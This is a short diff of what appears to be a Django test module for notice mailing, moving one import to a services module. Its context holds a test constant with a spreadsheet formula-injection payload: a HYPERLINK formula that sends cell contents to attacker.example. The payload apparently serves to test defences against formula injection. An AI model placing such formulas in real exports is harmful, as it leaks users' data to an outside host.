@@ -8,8 +8,8 @@ from django.core.files.base import ContentFile
 from django.core.files.storage import default_storage
 
 from cases.tests.factories import CaseFactory, RespondentFactory
-from notices.mailing import mailing_batch_start
 from notices.models import Notice
+from notices.services import mailing_batch_start
 from notices.tests.test_mailing import _two_page_pdf
 
 EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'
